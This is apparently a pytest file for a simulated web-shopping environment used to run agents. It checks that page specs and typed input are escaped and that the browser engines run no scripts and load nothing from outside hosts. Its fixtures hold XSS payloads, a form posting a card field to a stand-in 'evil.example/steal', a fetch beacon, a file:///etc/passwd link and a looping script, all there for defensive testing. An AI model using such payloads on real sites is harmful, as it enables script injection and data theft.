"""A hostile spec: nothing of it runs in the fast engine, and neither engine loads anything from elsewhere."""

import time

import pytest
from numpy.random import SeedSequence, default_rng

from simenv.errors import WorldError
from simenv.plugins.environments.web.engine import chromium as engine
from simenv.plugins.environments.web.teacher import Teacher

from .conftest import ITEM, SHOP, task

NASTY = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"
HOSTILE = """
<script>document.title = 'ran'</script>
<img src="https://evil.example/pixel.png"><link rel="stylesheet" href="https://evil.example/a.css">
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x"></object>
<script src="https://evil.example/a.js"></script>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<a href="https://evil.example/">Prize</a> <a href="//evil.example/x">Twin</a> <a href="http://[bad">Broken</a>
<a href="javascript:document.title='ran'">Script</a> <a href=" jAvAsCrIpT:alert(1)">Shouting</a>
<a href="data:text/html,hello">Data</a> <a href="file:///etc/passwd">File</a>
<form action="https://evil.example/steal" method="post"><input name="card" value="1"><button>Pay</button></form>
<form action="/form/contact"><button formaction="https://evil.example/steal" formmethod="post">Detour</button></form>
<button onclick="document.title = 'ran'; fetch('https://evil.example/beacon')">Harmless</button>
<svg><a href="https://evil.example/"><text>x</text></a></svg>
<p hidden><a href="/cart">Unseen</a></p><p style="display: none"><button>Unseen too</button></p>
"""
SITE = SHOP | {"pages": {"bad": {"title": "Bad", "html": HOSTILE}}}
AWAY = ["Prize", "Twin", "Broken", "Data", "File", "Pay"]


def spec_full_of(text):
    item = ITEM | {
        "title": text,
        "description": text,
        "features": [text],
        "options": {"colour": [text, "b"]},
        "details": {"brand": text},
    }
    forms = {"contact": {**SHOP["forms"]["contact"], "title": "Contact", "intro": text}}
    return SHOP | {
        "name": text[:80],
        "tagline": text,
        "forms": forms,
        "catalogue": SHOP["catalogue"] | {"items": [item]},
    }


def test_text_of_a_spec_is_text(visit):
    shop = visit(task(spec_full_of(NASTY)))
    for url in ("/", "/search", "/item/p1", "/form/contact"):
        html = shop.world.tab.page(url)
        assert "<script" not in html and "<img" not in html and "&lt;script&gt;" in html
    shop.click("Catalogue").click(NASTY)
    assert shop.facts["url"] == "/item/p1"
    assert "<script" not in shop.seen.text and "‹script›" in shop.seen.text


def test_what_is_typed_is_text(visit):
    shop = visit().act("search", query='"><script>alert(1)</script>')
    assert "<script" not in shop.seen.text and "<script" not in shop.world.tab.page(shop.facts["url"])
    assert shop.facts["fields"][0]["value"] == '"><script>alert(1)</script>'


def test_the_fast_engine_runs_no_script_and_goes_nowhere(visit):
    shop = visit(task(SITE)).click("Bad")
    assert "evil" not in shop.seen.text and "Unseen" not in shop.seen.text and "Bad - Fern" in shop.seen.text
    before = shop.facts
    for label in [*AWAY, "Script", "Shouting"]:
        assert shop.click(label).seen.invalid, label
        assert shop.facts == before, label
    shop.click("Harmless")
    assert "Bad - Fern" in shop.seen.text and shop.facts["url"] == "/page/bad"


def test_deep_and_broken_html_is_read(visit):
    for html in (
        "<div>" * 5000 + "deep",
        "<table><form><tr><td><input name=a></form>",
        "<select><p><a href=/>x",
        "<!-- <a href='/'>",
    ):
        shop = visit(task(SHOP | {"pages": {"bad": {"title": "Bad", "html": html}}})).click("Bad")
        assert not shop.seen.invalid


def test_chromium_loads_nothing_from_elsewhere(visit, chromium):
    shop = visit(task(SITE), engine="chromium").click("Bad")
    asked = []
    tab = shop.world.tab

    async def listen():
        tab._page.on("requestfinished", lambda r: asked.append(r.url))

    tab._run(listen())
    before = shop.facts
    for label in AWAY:
        assert shop.click(label).seen.invalid, label
        assert shop.facts == before, label
    assert not shop.click("Harmless").seen.invalid
    shop.click("Detour").click("Bad")
    assert shop.facts["url"] == "/page/bad"
    assert not [url for url in asked if "evil" in url]


def test_chromium_runs_scripts_only_where_it_is_told_to(visit, chromium):
    with_scripts, without = (visit(task(SITE), engine="chromium", scripts=s).click("Bad") for s in (True, False))
    assert "Page: ran" in with_scripts.seen.text and "Page: Bad - Fern" in without.seen.text


def test_a_page_that_never_finishes_has_a_deadline(chromium):
    from .conftest import Visit

    loop = {"bad": {"title": "Bad", "html": "<script>for (;;) {}</script>"}}
    shop = Visit(task(SHOP | {"pages": loop}), engine="chromium", deadline=60)
    shop.world.tab._deadline = 4
    with pytest.raises(WorldError, match="not done after 4 seconds"):
        shop.click("Bad")
    shop.world.end()  # or its renderer would spin for as long as the tests run
    fine = Visit(task(), engine="chromium")
    assert fine.click("About us").facts["url"] == "/page/about"


def test_a_page_that_comes_late_is_not_the_agents_mistake(visit, chromium, monkeypatch):
    shop, handle = visit(task(), engine="chromium"), engine.handle

    def late(*args):
        time.sleep(engine._VISIBLE / 1000 + 0.5)
        return handle(*args)

    monkeypatch.setattr(engine, "handle", late)
    assert not shop.click("About us").seen.invalid
    assert shop.facts["url"] == "/page/about"


def test_no_made_up_site_needs_scripts(visit):
    for n in range(10):
        example = Teacher(Teacher.Options(difficulty=1 + n % 5)).make(f"s{n}", default_rng(SeedSequence(n)))
        assert "<script" not in visit(example).world.tab.page("/")
